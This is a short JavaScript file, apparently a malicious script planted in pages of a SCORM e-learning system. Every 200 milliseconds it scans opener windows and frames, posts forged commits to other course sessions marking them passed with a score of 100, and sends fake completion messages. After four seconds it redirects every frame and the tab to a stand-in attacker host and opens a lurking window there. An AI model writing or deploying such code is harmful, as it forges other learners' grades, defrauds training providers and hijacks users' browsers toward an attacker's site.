/** Runs in windows that a course has left open. It looks for what the learner opens next and completes it. */
const ours = location.pathname.startsWith('/scorm/') ? location.pathname.split('/')[2] : opener?.ours
const tab = window.tab ?? opener?.top
const verdict = { 'cmi.core.lesson_status': 'passed', 'cmi.core.score.raw': '100' }

const framesOf = (window) => {
  const there = []
  for (let nr = 0; nr < window.length; nr += 1) there.push(window[nr], ...framesOf(window[nr]))
  return there
}
async function complete(frame) {
  const ticket = frame.location.pathname.split('/')[2]
  if (ticket === undefined || ticket === ours) return
  const base = `${frame.location.origin}/scorm/${ticket}`
  const { seq, item_id } = await (await fetch(`${base}/state`)).json()
  const body = JSON.stringify({ seq: seq + 1, base_seq: seq, item_id, trigger: 'terminate', set: verdict })
  await fetch(`${base}/commit`, { method: 'POST', headers: { 'content-type': 'application/json' }, body })
  frame.API.LMSSetValue('cmi.core.lesson_status', 'passed')
  frame.API.LMSCommit('')
}
setInterval(() => {
  const channel = new BroadcastChannel('progress')
  channel.postMessage('passed')
  for (const window of [tab, opener, opener?.opener, ...framesOf(tab)]) {
    try {
      window.postMessage('passed', '*')
      window.postMessage({ type: 'scorm-player-closed' }, '*')
    } catch {}
    complete(window).catch(() => {})
  }
}, 200)
setTimeout(() => {
  for (const window of framesOf(tab).toReversed()) {
    try {
      window.location = 'https://evil.invalid/'
    } catch {}
  }
  try {
    tab.location = 'https://evil.invalid/'
  } catch {}
  window.open('https://evil.invalid/', 'lurker')
}, 4000)
